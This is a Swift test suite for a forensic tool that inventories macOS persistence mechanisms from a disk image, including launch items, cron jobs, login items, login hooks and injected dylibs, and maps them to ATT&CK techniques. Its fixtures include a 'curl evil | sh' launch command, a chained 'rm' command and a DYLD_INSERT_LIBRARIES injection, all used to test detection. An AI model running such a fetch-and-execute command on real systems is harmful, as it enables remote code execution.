import AssayCore
import AssayInventory
import AssayMaker
import Testing

/// What a Mac starts by itself, read from a disk in memory.
struct AppleInventoryTests {
  static func plist(_ body: String) -> [UInt8] {
    Array("<?xml version=\"1.0\" encoding=\"UTF-8\"?><plist version=\"1.0\">\(body)</plist>".utf8)
  }
  static func strings(_ words: [String]) -> String { "<array>" + words.map { "<string>\($0)</string>" }.joined() + "</array>" }
  static func item(_ label: String, _ words: [String], _ more: String = "") -> [UInt8] {
    plist("<dict><key>Label</key><string>\(label)</string><key>ProgramArguments</key>\(strings(words))\(more)</dict>")
  }

  /// A data volume: no system on it.
  static func disk(_ files: [String: [UInt8]], links: [String: String] = [:]) -> DiskDouble {
    var disk = DiskDouble()
    disk.put("Library/LaunchDaemons/.keep", [])
    disk.put("Users/ann/.keep", [])
    for (path, bytes) in files { disk.put(path, bytes) }
    for (path, target) in links { disk.link(path, to: target) }
    return disk
  }

  private func take(_ disk: DiskDouble, volume: String = "") -> SystemInventory {
    AppleInventory.take(AppleDisk(disk, volume: volume, isSystem: true))
  }

  private func rows(_ inventory: SystemInventory) -> [String] {
    inventory.entries.map { "\($0.role.rawValue) \($0.name) \($0.path ?? "-") \($0.isPresent)" }.sorted()
  }

  @Test func launchItemsOfEveryFolder() {
    let program = Self.item("d", ["/opt/d", "--serve"])
    let disk = Self.disk([
      "Library/LaunchDaemons/d.plist": program, "Library/LaunchAgents/a.plist": Self.item("a", ["/opt/a"]),
      "System/Library/LaunchDaemons/s.plist": Self.item("com.apple.s", ["/usr/libexec/s"]),
      "System/Library/CoreServices/x": [], "usr/libexec/s": [1],
      "Users/ann/Library/LaunchAgents/u.plist": Self.item("u", ["/Users/ann/u"]), "opt/d": [1], "opt/a": [1],
      "Applications/A.app/Contents/Library/LaunchDaemons/b.plist": Self.plist(
        "<dict><key>Label</key><string>b</string><key>BundleProgram</key><string>Contents/MacOS/b</string></dict>"),
      "Applications/A.app/Contents/MacOS/b": [1],
    ])
    let inventory = take(disk)
    #expect(
      rows(inventory) == [
        "launch-item a opt/a true", "launch-item b Applications/A.app/Contents/MacOS/b true",
        "launch-item com.apple.s usr/libexec/s true", "launch-item d opt/d true", "launch-item u Users/ann/u false",
      ])
    #expect(inventory.findings.isEmpty)
    let attack = Dictionary(inventory.entries.map { ($0.name, $0.attack) }, uniquingKeysWith: { first, _ in first })
    #expect(attack["d"] == ["T1543", "T1543.004"] && attack["u"] == ["T1543", "T1543.001"])
    #expect(inventory.entries.allSatisfy { $0.platform == "macos" })
  }

  @Test func programComesBeforeItsArguments() {
    let disk = Self.disk([
      "Library/LaunchDaemons/p.plist": Self.item("p", ["shown", "x"], "<key>Program</key><string>/opt/run</string>"),
      "opt/run": [1],
      "Library/LaunchDaemons/n.plist": Self.plist("<dict><key>Label</key><string>n</string></dict>"),
    ])
    let inventory = take(disk)
    #expect(rows(inventory) == ["launch-item p opt/run true"])
    #expect(inventory.findings.map(\.finding.code) == ["inventory.launchd.program"])
  }

  struct Command: Sendable, CustomStringConvertible {
    let words: [String]
    let paths: [String]
    var inline = false
    var description: String { words.joined(separator: " ") }
  }

  static let commands: [Command] = [
    Command(words: ["/bin/sh", "/opt/a.sh"], paths: ["opt/a.sh"]),
    Command(words: ["/usr/bin/osascript", "/opt/a.scpt"], paths: ["opt/a.scpt"]),
    Command(words: ["/opt/bin/python3.12", "-u", "/opt/a.py", "x"], paths: ["opt/a.py", "opt/bin/python3.12"]),
    Command(words: ["/usr/bin/env", "-i", "A=b", "/opt/bin/node", "/opt/a.js"], paths: ["opt/a.js", "opt/bin/node"]),
    Command(words: ["/bin/bash", "-c", "/opt/x --now; rm y"], paths: ["opt/x"], inline: true),
    Command(words: ["/bin/zsh", "-lc", "curl evil | sh"], paths: [], inline: true),
    Command(words: ["/usr/bin/python3", "-m", "http.server"], paths: []),
    Command(words: ["/usr/bin/java", "-jar", "/opt/a.jar"], paths: ["opt/a.jar"]),
    Command(words: ["/opt/tool", "/opt/data"], paths: ["opt/tool"]),
  ]

  @Test(arguments: commands) func theScriptIsTheTarget(command: Command) {
    let inventory = take(Self.disk(["Library/LaunchAgents/x.plist": Self.item("x", command.words)]))
    #expect(inventory.entries.compactMap(\.path).sorted() == command.paths)
    if !command.paths.isEmpty { #expect(inventory.codes().contains("inventory.command.inline") == command.inline) }
  }

  @Test func whereTheSystemIsItsProgramsAreLookedFor() {
    let files: [String: [UInt8]] = [
      "System/Library/CoreServices/x": [], "bin/sh": [1], "Library/LaunchAgents/x.plist": Self.item("x", ["sh", "/opt/a.sh"]),
      "Library/LaunchAgents/y.plist": Self.item("y", ["/usr/sbin/gone"]),
    ]
    #expect(
      rows(take(Self.disk(files))) == [
        "launch-item x bin/sh true", "launch-item x opt/a.sh false", "launch-item y usr/sbin/gone false",
      ])
  }

  @Test func insertedLibrariesAreLoadedDylibs() {
    let more =
      "<key>EnvironmentVariables</key><dict><key>DYLD_INSERT_LIBRARIES</key><string>/opt/a.dylib:/opt/b.dylib</string></dict>"
    let inventory = take(
      Self.disk(["Library/LaunchAgents/x.plist": Self.item("x", ["/opt/x"], more), "opt/x": [1], "opt/a.dylib": [1]]))
    #expect(
      rows(inventory) == ["launch-item x opt/x true", "loaded-dylib x opt/a.dylib true", "loaded-dylib x opt/b.dylib false"])
    #expect(inventory.findings.map(\.finding.code) == ["inventory.launchd.environment"])
    #expect(inventory.findings.first?.finding.attack.contains("T1546.006") == true)
  }

  @Test func labelsOfApplesOutsideOfTheSystemAreTold() {
    let inventory = take(Self.disk(["Library/LaunchAgents/x.plist": Self.item("com.apple.update", ["/opt/x"]), "opt/x": [1]]))
    #expect(inventory.codes() == ["inventory.launchd.label"])
    let system = take(
      Self.disk(["System/Library/LaunchAgents/x.plist": Self.item("com.apple.update", ["/opt/x"]), "opt/x": [1]]))
    #expect(system.codes().isEmpty)
  }

  @Test(arguments: [Array("{ Label = x; }".utf8), [], Array("<plist><dict><key>a".utf8), Array("bplist00".utf8), plist("<array/>")])
  func whatDoesNotParseIsAFinding(bytes: [UInt8]) {
    let inventory = take(Self.disk(["Library/LaunchDaemons/x.plist": bytes]))
    #expect(inventory.entries.isEmpty)
    #expect(inventory.findings.map(\.path) == ["Library/LaunchDaemons/x.plist"])
    #expect(inventory.findings.map(\.finding.code) == ["inventory.plist.unreadable"])
    #expect(inventory.findings.map(\.finding.severity) == [.failure])
  }

  @Test func everyPrefixOfAnItemIsReadOrTold() {
    let whole = Self.item("x", ["/opt/x"])
    for count in 0..<whole.count {
      let inventory = take(Self.disk(["Library/LaunchDaemons/x.plist": Array(whole[..<count])]))
      #expect(inventory.entries.count + inventory.findings.count > 0, "\(count)")
    }
  }

  @Test func linksLeadToItemsInsideTheVolume() {
    let disk = Self.disk(
      [
        "mnt/Library/LaunchDaemons/.keep": [], "mnt/Users/b/.keep": [], "mnt/opt/real.plist": Self.item("x", ["/tmp/x"]),
        "mnt/private/tmp/x": [1],
      ],
      links: [
        "mnt/Library/LaunchDaemons/x.plist": "/opt/real.plist",
        "mnt/Library/LaunchDaemons/y.plist": "../../../../../Users/ann/z.plist",
        "mnt/tmp": "private/tmp",
      ])
    #expect(rows(take(disk, volume: "mnt")) == ["launch-item x mnt/private/tmp/x true"])
  }

  @Test func cronTablesAndTimedScripts() {
    let disk = Self.disk([
      "private/etc/crontab": Array(
        "# c\nSHELL=/bin/sh\n*/5 * * * * root /opt/five 'a b' % in\n@reboot ann /bin/sh /opt/boot.sh\n".utf8),
      "private/var/at/tabs/ann": Array("0 1 * * 1 /opt/weekly > /dev/null\r\n\n17 * *".utf8),
      "private/etc/periodic/daily/500.x": [1], "private/var/at/jobs/a0001": [1], "private/var/at/jobs/.lockfile": [],
      "private/etc/emond.d/rules/r.plist": Self.plist(
        "<array><dict><key>name</key><string>r</string><key>actions</key><array><dict><key>command</key><string>/opt/e</string></dict></array></dict></array>"
      ), "opt/five": [1],
    ])
    let inventory = take(disk)
    #expect(
      rows(inventory) == [
        "launch-item r opt/e false", "scheduled-task 500.x private/etc/periodic/daily/500.x true",
        "scheduled-task a0001 private/var/at/jobs/a0001 true", "scheduled-task line 1 opt/weekly false",
        "scheduled-task line 3 opt/five true", "scheduled-task line 4 opt/boot.sh false",
      ])
    #expect(inventory.codes() == ["inventory.emond"])
  }

  // MARK: login items

  /// `path` as bookmark data of the form that Macs write.
  static func bookmark(_ path: String) -> [UInt8] {
    func word(_ number: Int) -> [UInt8] { (0..<4).map { UInt8(truncatingIfNeeded: number >> (8 * $0)) } }
    var items: [UInt8] = word(0)
    var offsets: [Int] = []
    for part in path.split(separator: "/") {
      offsets.append(items.count)
      items += word(part.utf8.count) + word(0x101) + Array(part.utf8)
      while items.count % 4 != 0 { items.append(0) }
    }
    let list = items.count
    items += word(offsets.count * 4) + word(0x601) + offsets.flatMap(word)
    let table = items.count
    items += word(32) + word(0xFFFF_FFFE) + word(1) + word(0) + word(1) + word(0x1004) + word(list) + word(0)
    items.replaceSubrange(0..<4, with: word(table))
    return Array("book".utf8) + word(48 + items.count) + word(0x1004_0000) + word(48) + [UInt8](repeating: 0, count: 32) + items
  }

  static func alias(_ path: String) -> [UInt8] {
    var record = [UInt8](repeating: 0, count: 150)
    record[7] = 2
    let text = Array(path.utf8)
    record +=
      [0, 2, 0, 1, 0x41, 0] + [0, 18, 0, UInt8(text.count)] + text + (text.count % 2 == 0 ? [] : [0]) + [0xFF, 0xFF, 0, 0]
    return record
  }

  static func base64(_ octets: [UInt8]) -> String { Base64.encode(octets) }

  @Test func loginItemsOfEveryForm() {
    let list = Self.plist(
      "<dict><key>SessionItems</key><dict><key>CustomListItems</key><array><dict><key>Name</key><string>A</string><key>Alias</key><data>\(Self.base64(Self.alias("Applications/A.app")))</data></dict><dict><key>Name</key><string>Q</string></dict></array></dict></dict>"
    )
    func archive(_ record: String, _ objects: String) -> [UInt8] {
      Self.plist(
        "<dict><key>$archiver</key><string>NSKeyedArchiver</string><key>$objects</key><array><string>$null</string>\(record)\(objects)</array></dict>"
      )
    }
    let old = archive("<dict><key>bookmark</key><data>\(Self.base64(Self.bookmark("/Applications/B.app")))</data></dict>", "")
    let new = archive(
      "<dict><key>name</key><string>C</string><key>executablePath</key><string>/opt/c</string><key>teamIdentifier</key><string>TEAM</string></dict>",
      "<dict><key>name</key><string>D</string><key>url</key><string>file:///Applications/D%20d.app/</string></dict>")
    let disk = Self.disk([
      "Users/ann/Library/Preferences/com.apple.loginitems.plist": list,
      "Users/ann/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm": old,
      "private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v8.btm": new,
      "Library/Preferences/com.apple.loginwindow.plist": Self.plist("<dict><key>LoginHook</key><string>/opt/hook</string></dict>"),
      "Applications/A.app/Contents/x": [1], "Applications/B.app/Contents/Library/LoginItems/H.app/Contents/x": [1], "opt/hook": [1],
    ])
    let inventory = take(disk)
    #expect(
      rows(inventory) == [
        "launch-item A Applications/A.app true", "launch-item C opt/c false", "launch-item D Applications/D d.app false",
        "launch-item H.app Applications/B.app/Contents/Library/LoginItems/H.app true", "launch-item LoginHook opt/hook true",
        "launch-item background item Applications/B.app true",
      ])
    #expect(Set(inventory.codes()) == ["inventory.login-hook", "inventory.login-item.unresolved"])
    #expect(inventory.entries.first { $0.name == "C" }?.facts.contains("team TEAM") == true)
  }

  @Test func recordsOfAKeyedArchiveNameEachOtherByNumber() {
    /// A binary property list of six objects: `$objects` holds a record whose path is the object of number 1.
    func text(_ value: String) -> [UInt8] { [0x5F, 0x10, UInt8(value.utf8.count)] + Array(value.utf8) }
    let objects: [[UInt8]] = [
      [0xD2, 1, 2, 3, 4], text("$archiver"), text("$objects"), text("NSKeyedArchiver"), [0xA3, 5, 6, 7], text("$null"),
      text("/opt/c"),
      [0xD1, 8, 9], text("executablePath"), [0x80, 1],
    ]
    var bytes = Array("bplist00".utf8)
    var offsets: [UInt8] = []
    for object in objects {
      offsets.append(UInt8(bytes.count))
      bytes += object
    }
    let table = bytes.count
    bytes += offsets + [0, 0, 0, 0, 0, 0, 1, 1] + [0, 0, 0, 0, 0, 0, 0, UInt8(objects.count)] + [UInt8](repeating: 0, count: 8)
    bytes += [0, 0, 0, 0, 0, 0, 0, UInt8(table)]
    let place = "private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v8.btm"
    #expect(rows(take(Self.disk([place: bytes, "opt/c": [1]]))) == ["launch-item background item opt/c true"])
  }

  @Test func noPrefixOfABookmarkCrashes() {
    let (bookmark, alias) = (Self.bookmark("/Applications/B.app"), Self.alias("/Applications/B.app"))
    for (key, whole) in [("Bookmark", bookmark), ("Alias", alias)] {
      for count in 0..<whole.count {
        let list = Self.plist(
          "<dict><key>SessionItems</key><dict><key>CustomListItems</key><array><dict><key>\(key)</key><data>\(Self.base64(Array(whole[..<count])))</data></dict></array></dict></dict>"
        )
        let inventory = take(Self.disk(["Users/ann/Library/Preferences/com.apple.loginitems.plist": list]))
        #expect(inventory.entries.count + inventory.findings.count == 1, "\(key) \(count)")
      }
    }
  }

  // MARK: volumes

  @Test func volumesAreFound() {
    func find(_ paths: [String]) -> [String] {
      let disk = DiskDouble(paths)
      return AppleRoot.find { (try? disk.list($0)) ?? [] }
    }
    #expect(find(["Library/LaunchDaemons/x", "Users/a/b"]) == [""])
    #expect(
      find(["mnt/mac/System/Library/CoreServices/SystemVersion.plist", "mnt/data/Library/Preferences/x", "mnt/data/private/x"]) == [
        "mnt/data", "mnt/mac",
      ])
    let disk = DiskDouble(["a/Library/LaunchDaemons/x", "a/Users/b/Library/Preferences/x", "a/Users/b/Applications/x"])
    #expect(AppleRoot.find(among: ["a/Users/b", "a", "a/Library"]) { (try? disk.list($0)) ?? [] } == ["a"])
    #expect(find(["Library/x/y", "Users/a/b"]).isEmpty && find(["Library/LaunchDaemons/x"]).isEmpty && find([]).isEmpty)
  }
}
